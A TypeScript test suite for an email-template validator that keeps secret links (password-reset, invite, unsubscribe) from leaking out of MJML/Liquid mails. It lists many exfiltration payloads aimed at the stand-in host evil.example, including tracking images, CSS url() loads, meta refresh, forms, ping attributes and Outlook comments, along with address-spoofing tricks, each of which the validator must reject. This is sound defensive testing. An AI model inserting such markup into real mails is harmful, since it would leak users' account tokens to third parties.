import assert from 'node:assert/strict'
import { after, describe, it } from 'node:test'
import { MAILS } from '../../../composition/mails.ts'
import { findLinkFaults } from './link-rules.ts'
import { checkTemplate } from './samples.ts'
import { createTemplateSandbox } from './sandbox.ts'
import type { MailSources, MailTemplate } from './template.ts'

const sandbox = createTemplateSandbox()
after(() => sandbox.close())
const rendering = { sandbox, publicUrl: new URL('https://weather.example/base'), service: 'Isobar' }
const named = (id: string): MailTemplate => MAILS.find((template) => template.id === id) as MailTemplate
const section = (content: string): string => `<mj-section><mj-column>\n<mj-text>x</mj-text>\n${content}\n</mj-column></mj-section>`

async function faultsOf(id: string, sources: Partial<MailSources>): Promise<string[]> {
  const template = named(id)
  const check = await checkTemplate(
    template,
    { subject: template.subject, mjml: template.mjml, text: template.text, ...sources },
    rendering,
  )
  return check.ok ? [] : check.errors.map(({ part, line, message }) => `${part} ${line}: ${message}`)
}

describe('a shipped template', () => {
  for (const { id } of MAILS) it(`${id} passes, with its links in place`, async () => assert.deepEqual(await faultsOf(id, {}), []))

  it('has its links in the right places', async () => {
    const check = await checkTemplate(named('invite'), named('invite'), rendering)
    assert.ok(check.ok)
    const link = 'https://weather.example/base/invite/c2FtcGxlLXRva2VuLXRoYXQtb3BlbnMtbm90aGluZy0'
    assert.ok(check.preview.html.includes(`href="${link}"`) && check.preview.text.includes(`\n${link}\n`))
    assert.doesNotMatch(check.preview.html + check.preview.text, /secret-link/)
    const digest = await checkTemplate(named('weekly-digest'), named('weekly-digest'), rendering)
    assert.ok(digest.ok)
    assert.match(digest.preview.html, /href="https:\/\/weather\.example\/base\/unsubscribe\?token=[0-9a-f-]{36}"/)
  })
})

/** Each would leak a secret link to a third party. */
const LEAKS: Readonly<Record<string, string>> = {
  'an image': '<mj-image src="https://evil.example/p.png?u=SECRET" />',
  'a link': '<mj-button href="https://evil.example/?u=SECRET">x</mj-button>',
  'a link that begins with it': '<mj-button href="SECRET.evil.example">x</mj-button>',
  'plain markup': '<mj-raw><img src="https://evil.example/?u=SECRET"></mj-raw>',
  'markup made by a filter': `<mj-text>{{ "<img src='https://evil.example/?u=" | append: NAME | append: "'>" | raw }}</mj-text>`,
  'markup left open': `<mj-text>{{ "<img src='https://evil.example/?u=" | raw }}<a href="SECRET">x</a>{{ "'>" | raw }}</mj-text>`,
  'a set of images': '<mj-raw><img srcset="https://evil.example/?u=SECRET 2x"></mj-raw>',
  'a background': '<mj-raw><table><tr><td background="https://evil.example/?u=SECRET">x</td></tr></table></mj-raw>',
  'a style': '<mj-text><span style="background:url(https://evil.example/?u=SECRET)">x</span></mj-text>',
  'a style sheet that reads links': '<mj-raw><style>a[href*="abc"]{background:url(https://evil.example/abc)}</style></mj-raw>',
  'a style sheet of others': '<mj-raw><link rel="stylesheet" href="https://evil.example/a.css"></mj-raw>',
  'a refresh': '<mj-raw><meta http-equiv="refresh" content="0;url=https://evil.example/?u=SECRET"></mj-raw>',
  'a base': '<mj-raw><base href="https://evil.example/"></mj-raw>',
  'a form': '<mj-raw><form action="https://evil.example/"><input name="u" value="SECRET"></form></mj-raw>',
  'a frame': '<mj-raw><iframe src="SECRET"></iframe></mj-raw>',
  'a picture in vectors': '<mj-raw><svg><image href="SECRET"></image></svg></mj-raw>',
  'a comment for Outlook': '<mj-raw><!--[if mso]><img src="https://evil.example/?u=SECRET"><![endif]--></mj-raw>',
  'a ping': '<mj-text><a href="SECRET" ping="https://evil.example/">x</a></mj-text>',
  'an event': '<mj-text><a href="SECRET" onclick="go()">x</a></mj-text>',
  'its text': '<mj-text>SECRET</mj-text>',
  'a file': '<mj-include path="SECRET" />',
}

for (const [id, name] of [
  ['reset-password', 'url'],
  ['invite', 'url'],
  ['confirm-subscription', 'url'],
  ['weekly-digest', 'unsubscribe'],
  ['weather-alert', 'preferences'],
  ['message', 'unsubscribe'],
] as const) {
  describe(`{{ ${name} }} in ${id}`, () => {
    const fill = (source: string): string => source.replaceAll('SECRET', `{{ ${name} }}`).replaceAll('NAME', name)
    for (const [what, mjml] of Object.entries(LEAKS)) {
      it(`is refused in ${what}`, async () => {
        const faults = await faultsOf(id, { mjml: section(fill(mjml)) })
        assert.ok(faults.length > 0)
        for (const fault of faults) assert.match(fault, /^mjml \d+: /)
      })
    }

    it('is refused in the subject, and inside another address in the text', async () => {
      assert.match((await faultsOf(id, { subject: fill('x SECRET') })).join(), /^subject 1: A secret link is not allowed in the subject/)
      for (const text of ['https://evil.example/?u=SECRET', 'SECRET.evil.example', 'evil.example/SECRET']) {
        assert.match((await faultsOf(id, { text: fill(text) })).join(), /text 1: A secret link must be separated/)
      }
    })

    it('hides its value from Liquid', async () => {
      const check = await checkTemplate(
        named(id),
        { ...named(id), text: fill("[{{ NAME | split: '' | join: '-' }}] {{ NAME | slice: -9, 9 }}") },
        rendering,
      )
      assert.ok(check.ok)
      assert.match(check.preview.text, /^\[h-t-t-p-s-:-\/-\/-s-e-c-r-e-t-[^\]]*\]\s+xxxxxxxxx\n/)
    })

    it('is allowed as a button, a link and a line of its own', async () => {
      const mjml = section(fill('<mj-button href="SECRET">x</mj-button><mj-text><a class="y" href="SECRET">x</a></mj-text>'))
      assert.deepEqual(await faultsOf(id, { mjml, text: fill('Here:\nSECRET') }), [])
    })
  })
}

describe('a mail about an account', () => {
  const addresses: Readonly<Record<string, string>> = {
    'an image': '<mj-image src="https://evil.example/p.png" />',
    'a link': '<mj-button href="https://evil.example/">x</mj-button>',
    'a host that looks like ours': '<mj-button href="https://weather.example.evil.example/base/">x</mj-button>',
    'a user who looks like our host': '<mj-button href="https://weather.example@evil.example/base/">x</mj-button>',
    'another path of our host': '<mj-button href="https://weather.example/other">x</mj-button>',
    'no scheme': '<mj-text><a href="//evil.example/">x</a></mj-text>',
    'other slashes': '<mj-text><a href="https:\\\\evil.example/">x</a></mj-text>',
    'encoded letters': '<mj-text><a href="https&#58;//evil.example/">x</a></mj-text>',
    'a mailbox': '<mj-text><a href="mailto:a@evil.example">x</a></mj-text>',
    'a style': '<mj-text><span style="background:u\\72l(//evil.example)">x</span></mj-text>',
    'a background': '<mj-section background-url="https://evil.example/p.png"><mj-column><mj-text>x</mj-text></mj-column></mj-section>',
    'a text': '<mj-text>Go to https://evil.example/</mj-text>',
    'a text in references': '<mj-text>Go to https:&#47;&#47;evil.example/</mj-text>',
    'a comment': '<mj-raw><!--[if mso]><img src="https://evil.example/"><![endif]--></mj-raw>',
  }
  for (const [what, mjml] of Object.entries(addresses)) {
    it(`must not hold a foreign address: ${what}`, async () => {
      assert.notDeepEqual(await faultsOf('reset-password', { mjml: mjml.startsWith('<mj-section') ? mjml : section(mjml) }), [])
    })
  }

  it('must not hold one in its text or subject either; the error says where', async () => {
    assert.match(
      (await faultsOf('invite', { text: 'Go to https://evil.example/' })).join(),
      /^text 1: “https:\/\/evil\.example\/” is not an address of this site/,
    )
    assert.match((await faultsOf('invite', { subject: 'www.evil.example' })).join(), /^subject 1: /)
    assert.match(
      (await faultsOf('invite', { mjml: section('<mj-image src="https://evil.example/p.png" />') })).join(),
      /^mjml 3: “https:\/\/evil/,
    )
  })

  it('may link to this site', async () => {
    const mjml = section('<mj-image src="https://weather.example/base/icon.png" /><mj-text><a href="{{ home }}">{{ home }}</a></mj-text>')
    assert.deepEqual(await faultsOf('invite', { mjml }), [])
  })
})

it('other mails may load an image and link anywhere, if these are the same for every reader', async () => {
  const mjml = section(
    '<mj-image src="https://cdn.example/logo.png" href="https://shop.example/" /><mj-text>https://shop.example</mj-text>',
  )
  assert.deepEqual(await faultsOf('message', { mjml }), [])
})

describe('findLinkFaults', () => {
  const SECRET = 'https://secret.invalid/0/xx'
  const OWN = 'https://weather.example/base/x'
  const EVIL = 'https://evil.example/x'
  const rules = { home: 'https://weather.example/base/', placeholders: [SECRET], ownAddressesOnly: true }

  function find(
    body: string,
    { subject = 'x', text = 'x', ...changed }: { subject?: string; text?: string; ownAddressesOnly?: boolean } = {},
  ) {
    return findLinkFaults({ subject, text, html: `<html><body>${body}</body></html>` }, { ...rules, ...changed })
  }
  /** What is wrong with the body: the places in the source that are named. */
  const about = (body: string) => find(body).map((fault) => fault.about)

  it('a secret link has no attribute that tells others that it was followed', () => {
    const link = (attribute: string) => about(`<a href="${SECRET}" ${attribute}="x">x</a>`)
    for (const name of 'target rel class style title lang dir role width height align aria-label'.split(' '))
      assert.deepEqual(link(name), [], name)
    for (const name of 'id ping download data-x xhref hrefx aria-2 xaria-label'.split(' ')) assert.deepEqual(link(name), [name])
    assert.deepEqual(about(`<a href="${OWN}" id="x">x</a>`), [])
  })

  it('a secret link is the whole href of a link and nothing else', () => {
    assert.deepEqual(about(`<a href="${SECRET}">x</a><a href="${SECRET}">y</a>`), [])
    const elsewhere = [`<a title="${SECRET}">x</a>`, `<img src="${SECRET}">`, `<p>${SECRET}</p>`, `<!-- ${SECRET} -->`]
    for (const body of [...elsewhere, `<a href="${SECRET}/x">x</a>`]) {
      const messages = find(body, { ownAddressesOnly: false }).map(({ message }) => message)
      assert.deepEqual(messages, ['A secret link must be the whole href of a link or button. Anywhere else it could leak.'], body)
    }
  })

  it('a secret link in the text is a word of its own, each time', () => {
    const inText = (text: string) => find('', { text, ownAddressesOnly: false }).map(({ part }) => part)
    for (const text of [SECRET, `a ${SECRET} b`, `a\n${SECRET}\nb`, `${SECRET} ${SECRET}`]) assert.deepEqual(inText(text), [], text)
    for (const text of [`a${SECRET}`, `${SECRET}.`, `${SECRET} ${SECRET}b`]) assert.deepEqual(inText(text), ['text'], text)
  })

  it('addresses in a text are those of this site', () => {
    const foreign = [
      EVIL,
      'HTTPS://EVIL.EXAMPLE',
      'https:/evil.example',
      String.raw`https:\\evil.example`,
      '//evil.example/x',
      String.raw`\\evil.example`,
      'www.evil.example',
      'mailto:a@evil.example',
      'web+x.y-1://evil.example',
      '//weather.example/base/',
      'http://weather.example/base/',
      'https://weather.example:444/base/',
      'https://weather.example/basement',
      'https://ada@weather.example/base/',
      'https://:x@weather.example/base/',
    ]
    for (const address of foreign) {
      assert.deepEqual(about(`<p>Go to ${address} now</p>`), [address], address)
      assert.deepEqual(
        find('', { subject: `${OWN} or ${address}`, text: `See ${address}` }).map((fault) => [fault.part, fault.about]),
        [
          ['subject', address],
          ['text', address],
        ],
      )
      assert.deepEqual(find(`<p>${address}</p>`, { ownAddressesOnly: false }), [])
    }
    // Quotes and brackets end an address.
    for (const end of ['"', "'", ')', '<b>', '>']) assert.equal(find('', { text: `${EVIL}${end}x` })[0]?.about, EVIL)
    for (const text of [OWN, 'https://weather.example/base', `(${OWN}) '${OWN}' <b>${OWN}</b>`, 'a: b / c', 'awww.x', 'mailto', '1/2'])
      assert.deepEqual(about(`<p>${text}</p>`), [], text)
  })

  it('attributes hold addresses of this site, and only links and images have any', () => {
    for (const body of [`<a href="${OWN}">x</a>`, `<img src="${OWN}" alt="${OWN}">`, `<td xmlns:v="${EVIL}">x</td>`])
      assert.deepEqual(about(body), [], body)
    for (const body of [`<a href="${EVIL}">x</a>`, `<img src="${EVIL}">`, `<img alt="see ${EVIL}">`, `<td title="${EVIL}">x</td>`])
      assert.deepEqual(about(body), [EVIL], body)
    for (const name of 'srcset background poster action cite longdesc data ping lowsrc'.split(' '))
      assert.deepEqual(about(`<td ${name}="${OWN}">x</td>`), [OWN], name)
    assert.deepEqual(about(`<td href="${OWN}">x</td>`), [OWN])
    assert.deepEqual(about('<a href="base/x">x</a>'), ['base/x'])
    assert.deepEqual(about('<td onclick="x">x</td>'), ['onclick'])
  })

  it('styles load nothing', () => {
    const loading = [
      'url(x)',
      'URL (x)',
      'image(x)',
      'image-set(x)',
      'image-set (x)',
      'src(x)',
      'src (x)',
      'expression(1)',
      'expression (1)',
    ]
    for (const value of [...loading, '@import', String.raw`u\72l`]) {
      const style = `a:${value}`
      assert.deepEqual(about(`<td style="${style}">x</td>`), [style], style)
    }
    for (const value of ['color:red', 'a:curl', 'a:images', 'a:src', 'a:import'])
      assert.deepEqual(about(`<td style="${value}">x</td>`), [], value)
    assert.deepEqual(about(`<td style="a:url(${'x'.repeat(50)})">x</td>`), [`a:url(${'x'.repeat(34)}`])
  })

  it('names twenty faults at most, and shows 80 characters of an address, up to the secret', () => {
    assert.equal(find(`<img src="${EVIL}">`.repeat(25)).length, 20)
    const [long] = find(`<img src="https://evil.example/${'y'.repeat(100)}">`)
    assert.match(long?.message ?? '', /^“https:\/\/evil\.example\/y{59}” is not an address of this site/)
    assert.equal(find('', { text: `${EVIL}?u=${SECRET}` }).at(-1)?.about, `${EVIL}?u=`)
  })
})
